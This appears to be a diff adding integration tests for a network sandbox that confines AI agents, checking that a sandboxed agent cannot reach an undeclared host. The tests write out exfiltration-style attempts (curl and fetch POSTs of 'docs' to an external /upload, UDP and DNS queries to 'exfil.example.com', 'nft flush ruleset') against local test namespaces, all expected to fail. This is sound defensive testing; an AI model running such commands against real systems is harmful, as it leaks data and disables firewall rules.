@@ -1,0 +1,363 @@
+/**
+ * The network sandbox in real network namespaces with real nftables: the seed's
+ * lateral-movement attack end to end. Test hosts live in namespaces of their own on
+ * 10.251.8.0/24 ("database-reader", declared) and 10.251.9.0/24 ("external", undeclared);
+ * nothing is ever sent outside this machine. Needs root; runs (never skips) in CI.
+ */
+import { spawn, spawnSync } from 'node:child_process'
+import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { MemoryAuditLog } from '../../src/audit/types.js'
+import { parseManifest } from '../../src/config/manifest.js'
+import { startSandbox, type Sandbox } from '../../src/sandbox/index.js'
+import { cli, cliEnv, MAIN } from '../support/cli.js'
+import { kernelObjects, startTestHost, type TestHost } from '../support/netns.js'
+
+const DB = '10.251.8.2'
+const EXT = '10.251.9.2'
+const MANIFEST = {
+  agents: [
+    {
+      id: 'agent-summarizer-v2',
+      trustLevel: 'L1',
+      egress: [`http://${DB}:8080`, 'http://reader.sandbox.test:8080 internal', 'http://public.sandbox.test'],
+    },
+    { id: 'agent-writer', trustLevel: 'L2', egress: [`http://${DB}:8080`, `https://${DB}:8443`] },
+    { id: 'agent-offline', trustLevel: 'L0', egress: [`http://${DB}:8080`] },
+  ],
+}
+const manifest = parseManifest(MANIFEST)
+// Test names resolve to the test hosts only; a non-internal name answering a private address is refused.
+const resolver = async (h: string) =>
+  h === 'reader.sandbox.test' || h === 'public.sandbox.test' ? [{ address: DB }] : Promise.reject(new Error('ENOTFOUND'))
+
+let db: TestHost
+let ext: TestHost
+let dir: string
+let before: string[]
+
+beforeAll(async () => {
+  if (process.getuid?.() !== 0) throw new Error('the sandbox tests need root (CI runs as root)')
+  before = kernelObjects()
+  db = await startTestHost(8, 'database-reader', [8080, 8443])
+  ext = await startTestHost(9, 'external', [80, 443, 8080], [53, 9999])
+  dir = mkdtempSync(join(tmpdir(), 'agent-trust-sandbox-'))
+  // The CLI resolves internal names with the system resolver: its manifest keeps the literals only.
+  const forCli = { agents: MANIFEST.agents.map((a) => ({ ...a, egress: a.egress.filter((e) => !e.includes('sandbox.test')) })) }
+  writeFileSync(join(dir, 'm.json'), JSON.stringify(forCli))
+}, 30_000)
+
+afterAll(() => {
+  db?.close()
+  ext?.close()
+  if (dir !== undefined) rmSync(dir, { recursive: true, force: true })
+})
+
+interface Ran {
+  code: number | null
+  out: string
+}
+function inside(sb: Sandbox, command: string, args: string[]): Promise<Ran> {
+  return new Promise((resolve) => {
+    const c = sb.spawn(command, args, { stdio: ['ignore', 'pipe', 'pipe'] })
+    let out = ''
+    c.stdout?.on('data', (d: Buffer) => (out += d.toString()))
+    c.stderr?.on('data', (d: Buffer) => (out += d.toString()))
+    c.on('exit', (code) => resolve({ code, out }))
+  })
+}
+const node = (sb: Sandbox, code: string) => inside(sb, process.execPath, ['-e', code])
+const curl = (sb: Sandbox, ...args: string[]) => inside(sb, 'curl', ['-sS', '-m', '2', ...args])
+
+describe('the seed attack: a summarizer in the sandbox', () => {
+  let sb: Sandbox
+  const audit = new MemoryAuditLog()
+  beforeAll(async () => {
+    sb = await startSandbox({ agent: 'agent-summarizer-v2', manifest, audit, resolver })
+  })
+  afterAll(async () => sb?.close())
+
+  it('reaches the declared database-reader, directly and by its declared internal name', async () => {
+    expect((await curl(sb, `http://${DB}:8080/docs`)).out).toContain('hello from database-reader GET /docs')
+    expect((await curl(sb, 'http://reader.sandbox.test:8080/docs')).out).toContain('hello from database-reader')
+    expect(readFileSync(`/etc/netns/${sb.names.netns}/hosts`, 'utf8')).toContain(`${DB} reader.sandbox.test`)
+  })
+
+  it('cannot reach the external host by any route; the external host records nothing', async () => {
+    const packets = ext.packets()
+    const attempts: Array<Promise<Ran>> = [
+      curl(sb, '--noproxy', '*', `http://${EXT}/upload`),
+      curl(sb, '--noproxy', '*', `http://${EXT}:8080/upload`),
+      curl(sb, '--noproxy', '*', '-k', `https://${EXT}/upload`),
+      node(
+        sb,
+        `fetch('http://${EXT}:8080/upload', { method: 'POST', body: 'docs', signal: AbortSignal.timeout(1500) }).then(() => console.log('REACHED'), (e) => console.log('failed', e.cause?.code))`,
+      ),
+      node(
+        sb,
+        `require('node:http').get('http://${EXT}/', () => console.log('REACHED')).on('error', (e) => console.log('failed', e.code)).setTimeout(1500, function () { this.destroy() })`,
+      ),
+      node(
+        sb,
+        `const s = require('node:net').connect(443, '${EXT}', () => console.log('REACHED')); s.on('error', (e) => console.log('failed', e.code)); s.setTimeout(1500, () => s.destroy())`,
+      ),
+      node(
+        sb,
+        `const s = require('node:net').connect(80, '::ffff:${EXT}', () => console.log('REACHED')); s.on('error', (e) => console.log('failed', e.code)); s.setTimeout(1500, () => s.destroy())`,
+      ),
+      node(
+        sb,
+        `const u = require('node:dgram').createSocket('udp4'); u.send('docs', 9999, '${EXT}', (e) => { console.log('udp', e?.code); u.close() })`,
+      ),
+      node(
+        sb,
+        `const r = new (require('node:dns').promises.Resolver)({ timeout: 500, tries: 1 }); r.setServers(['${EXT}']); r.resolve4('exfil.example.com').then(() => console.log('REACHED'), (e) => console.log('dns failed', e.code))`,
+      ),
+      node(
+        sb,
+        `require('node:dns').promises.lookup('external-api.com').then(() => console.log('REACHED'), (e) => console.log('lookup failed', e.code))`,
+      ),
+    ]
+    const results = await Promise.all(attempts)
+    for (const r of results) expect(r.out).not.toContain('REACHED')
+    expect(results.slice(0, 3).every((r) => r.code !== 0)).toBe(true)
+    expect(await ext.events()).toEqual([])
+    expect(ext.packets()).toBe(packets)
+  }, 20_000)
+
+  it('the proxy refuses an undeclared destination with 403 and the rule, and audits it', async () => {
+    const r = await curl(sb, '-i', `http://${EXT}:8080/upload`)
+    expect(r.out).toMatch(/^HTTP\/1\.1 403/)
+    expect(r.out).toContain('x-agent-trust-rule: ip-literal')
+    expect(r.out).toContain('ERR_EGRESS_DENIED')
+    const ev = audit.events.find((e) => e.decision === 'deny' && e.destination === `http://${EXT}:8080`)
+    expect(ev).toMatchObject({ action: 'egress', origin: 'agent-summarizer-v2', code: 'ERR_EGRESS_DENIED' })
+    expect(await ext.events()).toEqual([])
+  })
+
+  it('an L1 agent gets GET through the proxy, its POST and tunnels are refused', async () => {
+    const get = await curl(sb, '--noproxy', '', '-x', `http://${sb.proxy!.address}:${sb.proxy!.port}`, `http://${DB}:8080/a`)
+    expect(get.out).toContain('hello from database-reader GET /a')
+    const post = await curl(
+      sb,
+      '-i',
+      '--noproxy',
+      '',
+      '-x',
+      `http://${sb.proxy!.address}:${sb.proxy!.port}`,
+      '-d',
+      'docs',
+      `http://${DB}:8080/a`,
+    )
+    expect(post.out).toMatch(/^HTTP\/1\.1 403/)
+    expect(post.out).toContain('x-agent-trust-rule: method')
+    const tunnel = await curl(sb, '-i', '-p', '--noproxy', '', '-x', `http://${sb.proxy!.address}:${sb.proxy!.port}`, `http://${DB}:8080/a`)
+    expect(tunnel.out).toContain('403')
+    expect(audit.events.some((e) => e.decision === 'allow' && e.note?.startsWith('proxy request GET'))).toBe(true)
+  })
+
+  it('a declared name whose DNS answer is private is refused by the proxy (no internal flag)', async () => {
+    const r = await curl(sb, '-i', 'http://public.sandbox.test/x')
+    expect(r.out).toContain('x-agent-trust-rule: address')
+    expect(audit.events.some((e) => e.note?.includes('rule=address class=private'))).toBe(true)
+  })
+
+  it('the command has no capabilities: it cannot change its own rules', async () => {
+    const r = await inside(sb, 'nft', ['flush', 'ruleset'])
+    expect(r.code).not.toBe(0)
+    expect((await curl(sb, '--noproxy', '*', `http://${EXT}:8080/`)).code).not.toBe(0)
+  })
+})
+
+describe('levels and separation', () => {
+  it('an L0 agent has loopback only: it reaches neither host', async () => {
+    const sb = await startSandbox({ agent: 'agent-offline', manifest })
+    try {
+      expect(sb.proxy).toBeUndefined()
+      const seen = (await db.events()).length
+      const r = await curl(sb, '--noproxy', '*', `http://${DB}:8080/`)
+      expect(r.code).not.toBe(0)
+      expect((await node(sb, `console.log(Object.keys(require('os').networkInterfaces()).join(','))`)).out.trim()).toBe('lo')
+      expect((await db.events()).length).toBe(seen)
+    } finally {
+      await sb.close()
+    }
+  })
+
+  it('an L2 agent tunnels to a declared https destination with CONNECT', async () => {
+    const audit = new MemoryAuditLog()
+    const sb = await startSandbox({ agent: 'agent-writer', manifest, audit })
+    try {
+      // The tunnel is opaque bytes: a plain HTTP exchange inside it shows the proxy relays them.
+      const r = await curl(sb, '-p', '--noproxy', '', '-x', `http://${sb.proxy!.address}:${sb.proxy!.port}`, `http://${DB}:8443/t`)
+      expect(r.out).toContain('hello from database-reader GET /t')
+      const refused = await curl(
+        sb,
+        '-i',
+        '-p',
+        '--noproxy',
+        '',
+        '-x',
+        `http://${sb.proxy!.address}:${sb.proxy!.port}`,
+        `http://${EXT}:443/t`,
+      )
+      expect(refused.out).toContain('403')
+      expect(audit.events.some((e) => e.decision === 'deny' && e.note === 'proxy connect CONNECT rule=ip-literal')).toBe(true)
+    } finally {
+      await sb.close()
+    }
+  })
+
+  it('two sandboxes at once get separate namespaces and cannot reach each other', async () => {
+    const a = await startSandbox({ agent: 'agent-writer', manifest })
+    const b = await startSandbox({ agent: 'agent-writer', manifest })
+    try {
+      expect(a.names.netns).not.toBe(b.names.netns)
+      expect(a.subnet!.cidr).not.toBe(b.subnet!.cidr)
+      const server = a.spawn(
+        process.execPath,
+        ['-e', `require('node:net').createServer((s) => s.end('A')).listen(7000, '0.0.0.0', () => console.log('up'))`],
+        {
+          stdio: ['ignore', 'pipe', 'ignore'],
+        },
+      )
+      await new Promise((r) => server.stdout?.once('data', r))
+      const r = await node(
+        b,
+        `const s = require('node:net').connect(7000, '${a.subnet!.sandboxIp}', () => console.log('REACHED')); s.on('error', (e) => console.log('failed', e.code)); s.setTimeout(1500, () => s.destroy())`,
+      )
+      expect(r.out).not.toContain('REACHED')
+      const proxyOfA = await node(
+        b,
+        `const s = require('node:net').connect(${a.proxy!.port}, '${a.proxy!.address}', () => console.log('REACHED')); s.on('error', (e) => console.log('failed', e.code)); s.setTimeout(1500, () => s.destroy())`,
+      )
+      expect(proxyOfA.out).not.toContain('REACHED')
+    } finally {
+      await a.close()
+      await b.close()
+    }
+  })
+})
+
+describe('agent-trust sandbox run (the CLI)', () => {
+  const run = (args: string[], env: Record<string, string | undefined> = {}) =>
+    cli(['sandbox', 'run', '--manifest', 'm.json', ...args], { cwd: dir, env: cliEnv(dir, env) })
+
+  it('passes the exit code through, audits, and the audit file verifies and names the refused destination', async () => {
+    const ok = await run([
+      '--audit-file',
+      'a.jsonl',
+      '--agent',
+      'agent-summarizer-v2',
+      '--',
+      'sh',
+      '-c',
+      `curl -sS -m 2 http://${DB}:8080/x && curl -s -m 2 http://${EXT}:8080/x; exit 7`,
+    ])
+    expect(ok.code).toBe(7)
+    expect(ok.stdout).toContain('hello from database-reader')
+    expect(ok.stdout).toContain('ERR_EGRESS_DENIED')
+    const v = await cli(['audit', 'verify', '--require-sealed', 'a.jsonl'], { cwd: dir, env: cliEnv(dir) })
+    expect(v.code).toBe(0)
+    expect(readFileSync(join(dir, 'a.jsonl'), 'utf8')).toContain(`"destination":"http://${EXT}:8080"`)
+    expect(await ext.events()).toEqual([])
+  }, 30_000)
+
+  it('bad input: unknown agent, manifest error, missing command exit 4; no capability exits 3; nothing left behind', async () => {
+    expect((await run(['--agent', 'nobody', '--', 'true'])).code).toBe(4)
+    writeFileSync(join(dir, 'bad.json'), '{"agents":[{"id":"x","trustLevel":"L9"}]}')
+    expect(
+      (await cli(['sandbox', 'run', '--manifest', 'bad.json', '--agent', 'x', '--', 'true'], { cwd: dir, env: cliEnv(dir) })).code,
+    ).toBe(4)
+    const missing = await run(['--agent', 'agent-writer', '--', 'no-such-command-here'])
+    expect(missing.code).toBe(4)
+    expect(missing.stderr).toContain('was not found')
+    // Not root: the same CLI with every capability dropped.
+    const tsx = import.meta.resolve('tsx')
+    const r = spawnSync(
+      'setpriv',
+      [
+        '--bounding-set=-all',
+        '--inh-caps=-all',
+        '--ambient-caps=-all',
+        '--',
+        process.execPath,
+        '--import',
+        tsx,
+        '--conditions=agent-trust-source',
+        MAIN,
+        'sandbox',
+        'run',
+        '--manifest',
+        'm.json',
+        '--agent',
+        'agent-writer',
+        '--',
+        'true',
+      ],
+      { cwd: dir, env: cliEnv(dir) as NodeJS.ProcessEnv, encoding: 'utf8' },
+    )
+    expect(r.status).toBe(3)
+    expect(r.stderr).toContain('CAP_NET_ADMIN')
+    expect(kernelObjects()).toEqual(before)
+  }, 30_000)
+
+  it('export --format nft passes nft -c -f', async () => {
+    const r = await cli(['sandbox', 'export', '--manifest', 'm.json', '--agent', 'agent-summarizer-v2', '--format', 'nft'], {
+      cwd: dir,
+      env: cliEnv(dir),
+    })
+    expect(r.code).toBe(0)
+    const check = spawnSync('nft', ['-c', '-f', '-'], { input: r.stdout, encoding: 'utf8' })
+    expect(check.status).toBe(0)
+  }, 20_000)
+})
+
+describe('cleanup is certain', () => {
+  const launch = (args: string[]) =>
+    spawn(
+      process.execPath,
+      ['--import', import.meta.resolve('tsx'), '--conditions=agent-trust-source', MAIN, 'sandbox', 'run', '--manifest', 'm.json', ...args],
+      {
+        cwd: dir,
+        env: cliEnv(dir) as NodeJS.ProcessEnv,
+        stdio: ['ignore', 'pipe', 'pipe'],
+      },
+    )
+  const started = async (c: ReturnType<typeof launch>) =>
+    new Promise<void>((resolve) => c.stdout.on('data', (d: Buffer) => d.toString().includes('started') && resolve()))
+  const exited = (c: ReturnType<typeof launch>) => new Promise<number | null>((resolve) => c.on('exit', (code) => resolve(code)))
+
+  it('after SIGKILL of the command', async () => {
+    const r = await run(['--agent', 'agent-writer', '--', 'sh', '-c', 'kill -9 $$'])
+    expect(r.code).toBe(137)
+    expect(kernelObjects()).toEqual(before)
+  }, 20_000)
+
+  it('after SIGTERM of the launcher', async () => {
+    const c = launch(['--agent', 'agent-writer', '--', 'sh', '-c', 'echo started; sleep 30'])
+    await started(c)
+    expect(kernelObjects().length).toBeGreaterThan(before.length)
+    c.kill('SIGTERM')
+    await exited(c)
+    expect(kernelObjects()).toEqual(before)
+  }, 20_000)
+
+  it('after sandbox gc, for a SIGKILLed launcher (its command killed too)', async () => {
+    const c = launch(['--agent', 'agent-writer', '--', 'sh', '-c', 'echo started; sleep 30'])
+    await started(c)
+    c.kill('SIGKILL')
+    await exited(c)
+    expect(kernelObjects().length).toBeGreaterThan(before.length)
+    const gc = await cli(['sandbox', 'gc', '--json'], { cwd: dir, env: cliEnv(dir) })
+    expect(gc.code).toBe(0)
+    expect((JSON.parse(gc.stdout) as { removed: string[] }).removed.length).toBeGreaterThan(0)
+    expect(kernelObjects()).toEqual(before)
+  }, 20_000)
+
+  function run(args: string[]) {
+    return cli(['sandbox', 'run', '--manifest', 'm.json', ...args], { cwd: dir, env: cliEnv(dir) })
+  }
+})
